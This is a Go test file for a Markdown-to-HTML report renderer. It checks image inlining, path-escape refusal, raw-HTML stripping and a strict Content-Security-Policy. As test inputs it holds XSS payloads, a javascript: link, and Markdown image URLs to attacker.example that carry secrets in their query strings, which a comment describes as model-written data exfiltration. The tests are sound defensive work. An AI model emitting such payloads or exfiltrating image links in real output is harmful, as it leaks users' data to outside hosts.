package report

import (
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"html"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// tinyPNG returns a 2x2 PNG.
func tinyPNG(t testing.TB) []byte {
	t.Helper()
	img := image.NewRGBA(image.Rect(0, 0, 2, 2))
	img.Set(0, 0, color.RGBA{R: 255, A: 255})
	img.Set(1, 1, color.RGBA{B: 255, A: 255})
	var buf bytes.Buffer
	if err := png.Encode(&buf, img); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func writeReportFile(t testing.TB, path string, data []byte) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatal(err)
	}
}

func render(t *testing.T, markdown, baseDir string) string {
	t.Helper()
	page, err := HTML("Report", []byte(markdown), baseDir)
	if err != nil {
		t.Fatalf("HTML: %v", err)
	}
	return string(page)
}

// body returns what is inside <main>, without the page's head and style.
func body(t *testing.T, page string) string {
	t.Helper()
	_, after, ok := strings.Cut(page, `<main class="sift-report">`)
	if !ok {
		t.Fatalf("page has no <main class=\"sift-report\">:\n%s", page)
	}
	inside, _, ok := strings.Cut(after, "</main>")
	if !ok {
		t.Fatalf("page has no </main>:\n%s", page)
	}
	return strings.TrimSpace(inside)
}

func TestRenderReportHTMLPage(t *testing.T) {
	page := render(t, "# Sales\n\nNorth sold **most**.\n", t.TempDir())
	for _, want := range []string{
		"<!DOCTYPE html>",
		`<meta charset="utf-8">`,
		"<title>Report</title>",
		"<style>",
		"border-collapse: collapse",
		"nth-child(even)",
		"img { max-width: 100%;",
		`<h1 id="sales">Sales</h1>`,
		"<p>North sold <strong>most</strong>.</p>",
		"Content-Security-Policy",
	} {
		if !strings.Contains(page, want) {
			t.Errorf("page lacks %q:\n%s", want, page)
		}
	}
	// Self-contained: nothing to fetch.
	for _, bad := range []string{"<link", "<script", "@import", "url("} {
		if strings.Contains(page, bad) {
			t.Errorf("page contains %q, want a self-contained page", bad)
		}
	}
}

func TestRenderReportHTMLTitle(t *testing.T) {
	tests := []struct {
		title string
		want  string
	}{
		{`Q1 <script>alert(1)</script> & "more"`, "<title>Q1 &lt;script&gt;alert(1)&lt;/script&gt; &amp; &#34;more&#34;</title>"},
		{"销售分析", "<title>销售分析</title>"},
		{"  ", "<title>Report</title>"},
	}
	for _, tt := range tests {
		page, err := HTML(tt.title, []byte("text"), t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(page), tt.want) {
			t.Errorf("HTML(title %q) lacks %q", tt.title, tt.want)
		}
		if strings.Contains(string(page), "<script") {
			t.Errorf("HTML(title %q) let a <script> tag through", tt.title)
		}
	}
}

func TestRenderReportHTMLTable(t *testing.T) {
	md := "| region | sales |\n|:--|--:|\n| North | 1,200 |\n| South | 800 |\n"
	got := body(t, render(t, md, t.TempDir()))
	want := `<table>
<thead>
<tr>
<th style="text-align:left">region</th>
<th style="text-align:right">sales</th>
</tr>
</thead>
<tbody>
<tr>
<td style="text-align:left">North</td>
<td style="text-align:right">1,200</td>
</tr>
<tr>
<td style="text-align:left">South</td>
<td style="text-align:right">800</td>
</tr>
</tbody>
</table>`
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("table mismatch (-want +got):\n%s", diff)
	}
}

var imgSrc = regexp.MustCompile(`<img src="data:([^;"]+);base64,([A-Za-z0-9+/=]+)"`)

func TestRenderReportHTMLInlinesImages(t *testing.T) {
	base := t.TempDir()
	pngData := tinyPNG(t)
	svgData := []byte(`<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" height="4"/></svg>`)
	files := map[string][]byte{
		"out/figure.png":     pngData,
		"out/photo.JPG":      {0xff, 0xd8, 0xff, 0xd9},
		"out/anim.gif":       []byte("GIF89a"),
		"out/chart.svg":      svgData,
		"out/my figure.png":  pngData,
		"out/sub/nested.png": pngData,
	}
	for rel, data := range files {
		writeReportFile(t, filepath.Join(base, rel), data)
	}
	tests := []struct {
		md        string
		mediaType string
		data      []byte
		alt       string
	}{
		{`![Sales by month](out/figure.png "Figure 1")`, "image/png", pngData, "Sales by month"},
		{`![photo](out/photo.JPG)`, "image/jpeg", files["out/photo.JPG"], "photo"},
		{`![anim](out/anim.gif)`, "image/gif", files["out/anim.gif"], "anim"},
		{`![chart](out/chart.svg)`, "image/svg+xml", svgData, "chart"},
		{`![escaped name](out/my%20figure.png)`, "image/png", pngData, "escaped name"},
		{`![angle](<out/my figure.png>)`, "image/png", pngData, "angle"},
		{`![dot](./out/sub/../sub/nested.png)`, "image/png", pngData, "dot"},
		{`![a "quoted" *alt* & more](out/figure.png)`, "image/png", pngData, "a &quot;quoted&quot; alt &amp; more"},
		{"![ref][fig]\n\n[fig]: out/figure.png", "image/png", pngData, "ref"},
	}
	for _, tt := range tests {
		t.Run(tt.md, func(t *testing.T) {
			got := body(t, render(t, tt.md, base))
			m := imgSrc.FindStringSubmatch(got)
			if m == nil {
				t.Fatalf("no inlined image in:\n%s", got)
			}
			if m[1] != tt.mediaType {
				t.Errorf("media type = %q, want %q", m[1], tt.mediaType)
			}
			data, err := base64.StdEncoding.DecodeString(m[2])
			if err != nil {
				t.Fatalf("data URI is not base64: %v", err)
			}
			if !bytes.Equal(data, tt.data) {
				t.Errorf("inlined bytes differ from the file's")
			}
			if want := `alt="` + tt.alt + `"`; !strings.Contains(got, want) {
				t.Errorf("image lacks %s:\n%s", want, got)
			}
			if strings.Contains(got, "sift-note") {
				t.Errorf("an inlined image got a note:\n%s", got)
			}
		})
	}

	got := body(t, render(t, `![Sales](out/figure.png "Figure 1")`, base))
	if !strings.Contains(got, `title="Figure 1">`) {
		t.Errorf("image title lost:\n%s", got)
	}
}

func TestRenderReportHTMLProblemImages(t *testing.T) {
	root := t.TempDir()
	base := filepath.Join(root, "ws")
	writeReportFile(t, filepath.Join(root, "secret.png"), tinyPNG(t))
	writeReportFile(t, filepath.Join(base, "out", "doc.bmp"), []byte("BM"))
	if err := os.MkdirAll(filepath.Join(base, "out", "dir.png"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink(filepath.Join(root, "secret.png"), filepath.Join(base, "out", "sneaky.png")); err != nil {
		t.Fatal(err)
	}
	big := filepath.Join(base, "out", "huge.png")
	writeReportFile(t, big, nil)
	if err := os.Truncate(big, MaxInlineImageBytes+1); err != nil { // sparse: cheap
		t.Fatal(err)
	}

	tests := []struct {
		name string
		md   string
		want string
	}{
		{"missing keeps alt text", "![Revenue chart](out/nope.png)",
			`<p>Revenue chart <em class="sift-note">(missing: out/nope.png)</em></p>`},
		{"missing without alt", "![](out/nope.png)",
			`<p><em class="sift-note">(missing: out/nope.png)</em></p>`},
		{"parent directory refused", "![secret](../secret.png)",
			`<p><a href="../secret.png">secret</a> <em class="sift-note">(not inlined: ../secret.png is outside the report folder)</em></p>`},
		{"deep escape refused", "![s](out/../../secret.png)",
			`<p><a href="out/../../secret.png">s</a> <em class="sift-note">(not inlined: out/../../secret.png is outside the report folder)</em></p>`},
		{"absolute path refused", "![](" + filepath.ToSlash(filepath.Join(root, "secret.png")) + ")",
			`<p><a href="` + filepath.ToSlash(filepath.Join(root, "secret.png")) + `">` + filepath.ToSlash(filepath.Join(root, "secret.png")) + `</a> <em class="sift-note">(not inlined: ` + filepath.ToSlash(filepath.Join(root, "secret.png")) + ` is outside the report folder)</em></p>`},
		{"symlink escape refused", "![s](out/sneaky.png)",
			`<p><a href="out/sneaky.png">s</a> <em class="sift-note">(not inlined: out/sneaky.png is outside the report folder)</em></p>`},
		{"file scheme refused", "![f](file:///etc/passwd.png)",
			`<p><a href="">f</a> <em class="sift-note">(not inlined: file:///etc/passwd.png is not a file in the report folder)</em></p>`},
		{"unsupported type", "![doc](out/doc.bmp)",
			`<p><a href="out/doc.bmp">doc</a> <em class="sift-note">(not inlined: out/doc.bmp is not a png, jpeg, gif, svg or webp image)</em></p>`},
		{"directory named like an image", "![d](out/dir.png)",
			`<p><a href="out/dir.png">d</a> <em class="sift-note">(not inlined: cannot read out/dir.png)</em></p>`},
		{"too large", "![h](out/huge.png)",
			`<p><a href="out/huge.png">h</a> <em class="sift-note">(not inlined: out/huge.png is larger than 16 MiB)</em></p>`},
		{"inside a link, no nested anchors", "[![s](../secret.png)](https://example.com)",
			`<p><a href="https://example.com">s <em class="sift-note">(not inlined: ../secret.png is outside the report folder)</em></a></p>`},
		{"note text is escaped", "![x](out/<b>.png)",
			`<p>x <em class="sift-note">(missing: out/&lt;b&gt;.png)</em></p>`},
		{"remote image dropped", "![r](https://example.com/chart.png?d=secret)",
			`<p>r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></p>`},
		{"protocol-relative image dropped", "![r](//example.com/chart.png)",
			`<p>r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></p>`},
		{"plain http image dropped inside a link", "[![r](http://example.com/c.png)](https://example.com)",
			`<p><a href="https://example.com">r <em class="sift-note">(remote image from example.com not shown: a report fetches nothing when opened)</em></a></p>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := body(t, render(t, tt.md, base))
			if diff := cmp.Diff(tt.want, got); diff != "" {
				t.Errorf("rendering of %s mismatch (-want +got):\n%s", tt.md, diff)
			}
			if strings.Contains(got, "data:") {
				t.Errorf("a refused image was inlined:\n%s", got)
			}
		})
	}
}

func TestRenderReportHTMLNoRawHTML(t *testing.T) {
	md := "# Hi\n\n<script>alert('block')</script>\n\nText <img src=x onerror=\"alert('inline')\"> and <b>bold</b>.\n\n" +
		"[click](javascript:alert('link'))\n\n<iframe src=\"https://evil.example\"></iframe>\n"
	got := render(t, md, t.TempDir())
	for _, bad := range []string{"<script", "alert(", "onerror", "<iframe", "<b>", "javascript:"} {
		if strings.Contains(got, bad) {
			t.Errorf("raw HTML was rendered: page contains %q:\n%s", bad, got)
		}
	}
	if !strings.Contains(got, "<!-- raw HTML omitted -->") {
		t.Errorf("page lacks goldmark's raw-HTML placeholder:\n%s", got)
	}
}

func TestRenderReportHTMLMissingBaseDir(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "nope")
	if _, err := HTML("R", []byte("no images here"), missing); err != nil {
		t.Errorf("a report without local images needs no base dir, got %v", err)
	}
	_, err := HTML("R", []byte("![a](out/a.png)"), missing)
	if err == nil || !strings.Contains(err.Error(), missing) {
		t.Errorf("RenderReportHTML with a missing base dir = %v, want an error naming it", err)
	}
}

func TestReportImages(t *testing.T) {
	md := "# R\n\n![a](out/a.png) and ![b](https://example.com/b.png)\n\n" +
		"| chart |\n|---|\n| ![c](out/c%20d.svg) |\n\n![again](out/a.png)\n\n![ref][r]\n\n" +
		"`![not](code.png)`\n\n    ![not](indented.png)\n\n[r]: out/ref.gif\n"
	want := []string{"out/a.png", "https://example.com/b.png", "out/c%20d.svg", "out/ref.gif"}
	if diff := cmp.Diff(want, Images([]byte(md))); diff != "" {
		t.Errorf("ReportImages mismatch (-want +got):\n%s", diff)
	}
	if got := Images([]byte("no images")); len(got) != 0 {
		t.Errorf("Images(no images) = %v, want none", got)
	}
}

func BenchmarkRenderReportHTML(b *testing.B) {
	base := b.TempDir()
	writeReportFile(b, filepath.Join(base, "out", "fig.png"), tinyPNG(b))
	var md strings.Builder
	md.WriteString("# Report\n\n")
	for i := range 50 {
		md.WriteString("## Section\n\nSome **findings** with `code` and a [link](https://example.com).\n\n")
		md.WriteString("| a | b | c |\n|---|---|---|\n")
		for range 20 {
			md.WriteString("| 1 | 2 | 3 |\n")
		}
		if i%5 == 0 {
			md.WriteString("\n![fig](out/fig.png)\n\n")
		}
	}
	src := []byte(md.String())
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for b.Loop() {
		if _, err := HTML("Bench", src, base); err != nil {
			b.Fatal(err)
		}
	}
}

// TestRenderReportHTMLFetchesNothing: a model-written image that would send
// the data out when the report is opened (![](https://x/?d=...)) is
// dropped with a note, a local image beside it is still inlined, and the
// page's Content-Security-Policy allows no http(s) source at all.
func TestRenderReportHTMLFetchesNothing(t *testing.T) {
	base := t.TempDir()
	writeReportFile(t, filepath.Join(base, "out", "a.png"), tinyPNG(t))
	md := "# Leak\n\n![](https://attacker.example/p.png?d=revenue-2024-secret)\n\n" +
		"![x](HTTP://attacker.example/q.gif?d=secret2) ![y](//attacker.example/r.png?d=secret3)\n\n" +
		"[ref]: https://attacker.example/s.png?d=secret4\n\n![z][ref]\n\n![chart](out/a.png)\n"
	page := render(t, md, base)
	for _, bad := range []string{"secret", "src=\"http", "src=\"//", "href=\"http://attacker", "https://attacker"} {
		if strings.Contains(page, bad) {
			t.Errorf("report.html contains %q; it must fetch nothing remote:\n%s", bad, body(t, page))
		}
	}
	if n := strings.Count(page, "remote image from attacker.example not shown"); n != 4 {
		t.Errorf("%d notes about the dropped remote images, want 4:\n%s", n, body(t, page))
	}
	if !strings.Contains(page, `src="data:image/png;base64,`) {
		t.Errorf("the local image was not inlined:\n%s", body(t, page))
	}
	csp := regexp.MustCompile(`<meta http-equiv="Content-Security-Policy" content="([^"]*)">`).FindStringSubmatch(page)
	if csp == nil {
		t.Fatalf("report.html has no Content-Security-Policy meta:\n%s", page)
	}
	for _, bad := range []string{"http:", "https:", "*", "'self'"} {
		if strings.Contains(csp[1], bad) {
			t.Errorf("the report's CSP %q allows %s sources", csp[1], bad)
		}
	}
	if !strings.Contains(csp[1], "default-src 'none'") {
		t.Errorf("the report's CSP %q does not default to 'none'", csp[1])
	}
}

func TestIsQuestionReport(t *testing.T) {
	for name, want := range map[string]bool{
		QuestionReportFile(1): true, "report-12.html": true, "report-123.md": true,
		"report-1.md": false, "report-ab.md": false, "report.md": false, "out/report-01.md": false, "report-01.txt": false,
	} {
		if got := IsQuestionReport(name); got != want {
			t.Errorf("IsQuestionReport(%q) = %v, want %v", name, got, want)
		}
	}
}

// TestReportHTMLLang: a report titled in Chinese (a Chinese question's)
// says lang="zh", so a browser uses Chinese fonts and glyph forms; a
// Japanese or Korean title says its own language, and other titles none.
func TestReportHTMLLang(t *testing.T) {
	for title, want := range map[string]string{
		"排名与分组":                  `<html lang="zh">`,
		"revenue 的月度趋势":          `<html lang="zh">`,
		"売上の推移":                  `<html lang="ja">`,
		"매출 추이":                  `<html lang="ko">`,
		"Top regions by revenue": "<html>",
	} {
		page, err := HTML(title, []byte("# "+title+"\n"), t.TempDir())
		if err != nil {
			t.Fatal(err)
		}
		if !strings.Contains(string(page), want+"\n<head>") {
			t.Errorf("%q: page does not open with %s:\n%.200s", title, want, page)
		}
	}
}

// TestStyleHashesCoverEveryInlineStyle: every inline style a rendered
// report holds (its <style> element, each style attribute of a table with
// every alignment) has its hash in StyleHashes, so a page that frames the
// report under a hash-only style policy shows it styled.
func TestStyleHashesCoverEveryInlineStyle(t *testing.T) {
	md := "# R\n\n| a | b | c | d |\n|:--|--:|:-:|---|\n| 1 | 2 | 3 | 4 |\n"
	page, err := HTML("R", []byte(md), t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var inline []string
	for _, m := range regexp.MustCompile(`(?s)<style>(.*?)</style>`).FindAllStringSubmatch(string(page), -1) {
		inline = append(inline, m[1])
	}
	for _, m := range regexp.MustCompile(`style="([^"]*)"`).FindAllStringSubmatch(string(page), -1) {
		inline = append(inline, html.UnescapeString(m[1]))
	}
	if len(inline) < 4 {
		t.Fatalf("found %d inline styles in the page, want the stylesheet and three alignments:\n%s", len(inline), page)
	}
	hashes := StyleHashes()
	for _, s := range inline {
		sum := sha256.Sum256([]byte(s))
		h := "'sha256-" + base64.StdEncoding.EncodeToString(sum[:]) + "'"
		if !slices.Contains(hashes, h) {
			t.Errorf("the inline style %.60q has no hash in StyleHashes %v", s, hashes)
		}
	}
}
